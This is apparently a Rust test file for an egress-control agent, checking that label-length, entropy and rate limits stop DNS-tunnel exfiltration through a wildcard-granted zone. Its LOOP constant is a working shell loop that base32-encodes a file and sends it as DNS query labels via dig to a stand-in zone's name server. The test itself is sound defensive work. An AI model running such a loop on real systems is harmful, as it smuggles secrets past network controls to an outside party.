//! A secret leaves by DNS: as labels below a granted wildcard, written by a loop of the shell, through
//! a dnsmasq that forwards them, to the name server of whoever runs the zone. It is read there.

#![cfg(test)]

use std::collections::BTreeMap;
use std::fs;
use std::net::{IpAddr, SocketAddr};
use std::process::Stdio;
use std::time::{Duration, Instant};

use exeat_tests::flows::{About, FlowLog};
use exeat_tests::node::Pod;
use exeat_tests::pod_client::{Background, Kind};
use exeat_tests::registry::Entry;
use exeat_tests::scene::Scene;
use exeat_tests::servers::{DnsServer, Unknown};
use exeat_tests::wait;

const ZONE: &str = "tunnel.example";
/// A name that a page would use.
const ORDINARY: &str = "img-7.eu.tunnel.example";
const RESOLVER: &str = "192.0.2.54";
const ZONE_SERVER: &str = "198.51.100.54";
const DEADLINE: Duration = Duration::from_secs(10);

/// Writes the file `$1` into labels of `$2` characters, `$3` characters a question.
const LOOP: &str = r#"
n=0
base32 -w "$3" "$1" | while read -r line; do
    n=$((n + 1))
    labels=$(echo "$line" | fold -w "$2" | paste -s -d .)
    dig +tries=1 +timeout=2 "@$4" "$n.$labels.$5" TXT
done
"#;

fn ip(text: &str) -> IpAddr {
    text.parse().expect("an address")
}

/// The parts that end before the node does come first.
struct Stage {
    zone: DnsServer,
    _dnsmasq: Background,
    scene: Scene,
}

impl Stage {
    /// With this under `dns.tunnel`, or without it.
    fn new(test: &str, limits: Option<&str>) -> Self {
        let entries = ["shop", "bank"].map(|namespace| {
            let wild = Entry::new(namespace, "wild", &format!("*.{ZONE}")).port(80, "HTTP");
            let www = Entry::new(namespace, "www", "www.example.com").port(80, "HTTP");
            [wild, www]
        });
        let mut scene = Scene::prepare(test, entries.as_flattened()).expect("a scene");
        scene.world.dns.set("www.example.com", &[ip("203.0.113.10")], 60);
        let node = &scene.world.node;
        let server = [SocketAddr::new(ip(ZONE_SERVER), 53)];
        let zone = DnsServer::start(node.internet(), &server, Unknown::NxDomain);
        let zone = zone.expect("the zone's server");
        zone.set(ORDINARY, &[ip("203.0.113.60")], 60);
        let dnsmasq = start_dnsmasq(&scene);
        let mut config = scene.files.config_for(node);
        config = config.replace("resolvers: [", &format!("resolvers: [{RESOLVER}, "));
        if let Some(limits) = limits {
            config = config.replace("dns: {", &format!("dns: {{tunnel: {limits}, "));
            assert!(config.contains("tunnel: "), "{config}");
        }
        scene.files.write_config(&config).expect("a configuration");
        scene.start_agent().expect("an agent");
        Self { zone, _dnsmasq: dnsmasq, scene }
    }

    fn web(&self) -> &Pod {
        &self.scene.world.web
    }

    /// Runs the loop over the secret and returns what the zone's server can read of it.
    fn exfiltrate(&self, label: usize, question: usize) -> Vec<u8> {
        let path = self.scene.world.node.run().dir().join("secret");
        fs::write(&path, secret()).expect("a file");
        let path = path.display().to_string();
        let (label, question) = (label.to_string(), question.to_string());
        let args = ["-c", LOOP, "sh", &path, &label, &question, RESOLVER, ZONE];
        let before = self.zone.names_asked();
        let output = self.web().tool("sh", &args).expect("sh");
        let told = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(output.status.success() && told.contains("status: "), "the loop ran: {output:?}");
        let new = self.zone.names_asked().into_iter().filter(|name| !before.contains(name));
        read(new.collect())
    }

    /// The ordinary name below the wildcard is resolved by dnsmasq, and leads to its server.
    #[track_caller]
    fn assert_ordinary_works(&self, pod: &Pod) {
        let resolver = SocketAddr::new(ip(RESOLVER), 53);
        let told = pod.resolve_at(resolver, ORDINARY, Kind::A, &[]).expect("an answer");
        assert_eq!(told.addresses, [ip("203.0.113.60")], "{}: {told:?}", pod.name);
        self.scene.assert_reaches(pod, ip("203.0.113.60"), 80);
    }

    /// Asks dnsmasq about `name` with dig.
    fn dig(&self, name: &str, more: &[&str]) -> String {
        let server = format!("@{RESOLVER}");
        let mut args = vec!["+tries=1", "+timeout=2", &server, name, "TXT"];
        args.extend(more);
        let output = self.web().tool("dig", &args).expect("dig");
        String::from_utf8_lossy(&output.stdout).into_owned()
    }

    fn metric(&self, name: &str, workload: &str) -> f64 {
        let metrics = self.scene.agent().metrics().expect("metrics");
        metrics.sum(&format!("exeat_dns_wildcard_{name}"), &[("workload", workload)])
    }
}

fn start_dnsmasq(scene: &Scene) -> Background {
    let node = &scene.world.node;
    node.internet().ip(&format!("addr add {RESOLVER}/32 dev lo\n")).expect("an address");
    let child = node
        .internet_command("dnsmasq".as_ref())
        .expect("a command")
        .args(["--keep-in-foreground", "--no-resolv", "--no-hosts", "--bind-interfaces"])
        .args(["--conf-file=/dev/null", "--pid-file=", "--user=root"])
        .args([&format!("--listen-address={RESOLVER}"), "--except-interface=uplink"])
        .arg(format!("--server=/{ZONE}/{ZONE_SERVER}"))
        .stderr(Stdio::null())
        .spawn()
        .expect("start dnsmasq (Debian package dnsmasq-base)");
    let dnsmasq = Background::new(child);
    let server = format!("{RESOLVER}:53");
    let question = ["resolve", ORDINARY, "--server", &server];
    let up = wait::holds(DEADLINE, || {
        node.internet_probe(&question).is_ok_and(|answer| answer["rcode"] == "NoError")
    });
    assert!(up, "dnsmasq answers");
    dnsmasq
}

/// Bytes without a pattern; five of them are eight characters.
fn secret() -> Vec<u8> {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut byte = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()[0]
    };
    std::iter::repeat_with(&mut byte).take(2_000).collect()
}

/// Puts numbered questions together and reads their base32 (RFC 4648 §6).
fn read(names: Vec<String>) -> Vec<u8> {
    let mut lines = BTreeMap::new();
    for name in names {
        let labels = name.strip_suffix(ZONE).and_then(|it| it.strip_suffix('.'));
        let (number, text) = labels.and_then(|it| it.split_once('.')).expect("a numbered name");
        lines.insert(number.parse::<u32>().expect("a number"), text.replace('.', ""));
    }
    let (mut bytes, mut word, mut bits) = (Vec::new(), 0_u64, 0);
    for character in lines.into_values().collect::<String>().bytes() {
        let alphabet = b"abcdefghijklmnopqrstuvwxyz234567";
        let value = alphabet.iter().position(|it| *it == character).expect("base32");
        word = word << 5 | value as u64;
        bits += 5;
        if bits == 40 {
            bytes.extend(&word.to_be_bytes()[3..]);
            (word, bits) = (0, 0);
        }
    }
    bytes
}

#[test]
fn without_limits_a_secret_leaves_by_dns_and_is_counted() {
    let stage = Stage::new("open", None);
    assert_eq!(stage.exfiltrate(63, 189), secret(), "what the zone's server read");
    // 3200 characters, 189 a question, 63 a label.
    let queries = stage.metric("queries_total", "web");
    assert!((17.0..40.0).contains(&queries), "{queries} questions");
    let bytes = stage.metric("bytes_total", "web");
    assert!((3_200.0..8_000.0).contains(&bytes), "{bytes} bytes");
    assert!((stage.metric("longest_label_bytes", "web") - 63.0).abs() < 0.5);
    let entropy = stage.metric("most_entropy_bits", "web");
    assert!((800.0..1_000.0).contains(&entropy), "{entropy} bits");
    assert!(stage.metric("queries_total", "ledger") < 0.5, "nobody else's");
}

#[test]
fn long_labels_and_random_ones_do_not_leave() {
    let stage = Stage::new("labels", Some("{labelLength: 40, entropyBits: 150}"));
    let log = FlowLog::follow(&stage.scene.files, &stage.scene.world.node).expect("the flow log");
    assert_eq!(stage.exfiltrate(63, 189), Vec::<u8>::new(), "in long labels");
    assert_eq!(stage.exfiltrate(20, 100), Vec::<u8>::new(), "in many short ones");
    for (labels, leaves) in [
        // What a label may be, and one byte more.
        ("0".repeat(40), true),
        ("0".repeat(41), false),
        // What labels may say: with its length, 30 bytes that are all different have 30 * log2(30)
        // = 147 bits, and 31 have 153.
        ("abcdefghijklmnopqrstuvwxyz012".to_owned(), true),
        ("abcdefghijklmnopqrstuvwxyz0123".to_owned(), false),
    ] {
        let name = format!("{labels}.{ZONE}");
        for transport in ["+notcp", "+tcp"] {
            let (before, mark) = (stage.zone.asked(&name), log.mark());
            let told = stage.dig(&name, &[transport]);
            let arrived = stage.zone.asked(&name) - before;
            if leaves {
                assert!(told.contains("status: NXDOMAIN"), "{transport}: {told}");
                assert_eq!(arrived, 1, "{name} {transport}");
            } else {
                let refused = told.contains("status: REFUSED");
                assert_eq!((refused, arrived), (transport == "+notcp", 0), "{name}: {told}");
                let record = log.denial(stage.web(), About::Name(&name), mark, DEADLINE);
                assert_eq!(record.expect("a record").reason, "query-limit", "{name}");
            }
        }
    }
    stage.assert_ordinary_works(stage.web());
    stage.assert_ordinary_works(&stage.scene.world.ledger);
    stage.scene.assert_name_reaches(stage.web(), "www.example.com", Kind::A, 80);
}

#[test]
fn a_loop_of_short_names_is_held_to_the_rate() {
    const NAMES: u32 = 400;
    let stage = Stage::new("rate", Some("{queriesPerSecond: 1}"));
    let path = stage.scene.world.node.run().dir().join("names");
    let names: Vec<String> = (0..NAMES).map(|it| format!("{it}.{ZONE} TXT\n")).collect();
    fs::write(&path, names.concat()).expect("a file");
    let (server, path) = (format!("@{RESOLVER}"), path.display().to_string());
    let began = Instant::now();
    let args = ["+tries=1", "+timeout=2", &server, "-f", &path];
    let output = stage.web().tool("dig", &args).expect("dig");
    let told = String::from_utf8_lossy(&output.stdout).into_owned();
    // A burst of ten seconds, and one for each second since.
    let most = 10 + began.elapsed().as_secs() + 2;
    let arrived = stage.zone.names_asked().iter().filter(|it| *it != ORDINARY).count() as u64;
    assert!((10..=most).contains(&arrived), "{arrived} of {NAMES} names arrived, at most {most}");
    let refused = told.matches("status: REFUSED").count() as u64;
    assert_eq!(refused + arrived, u64::from(NAMES), "each was refused or arrived");
    // Names that no wildcard grants, and the neighbour's names, have no part in it.
    stage.scene.assert_name_reaches(stage.web(), "www.example.com", Kind::A, 80);
    stage.assert_ordinary_works(&stage.scene.world.ledger);
    let pace = stage.scene.world.ledger.pace("www.example.com", 100).expect("answers");
    assert_eq!(pace.failed, 0, "{pace:?}");
    // The rate comes back.
    let resolver = SocketAddr::new(ip(RESOLVER), 53);
    let answered = || {
        let told = stage.web().resolve_at(resolver, ORDINARY, Kind::A, &[]);
        told.is_ok_and(|it| it.addresses == [ip("203.0.113.60")])
    };
    assert!(wait::holds(DEADLINE, answered), "the rate comes back");
}
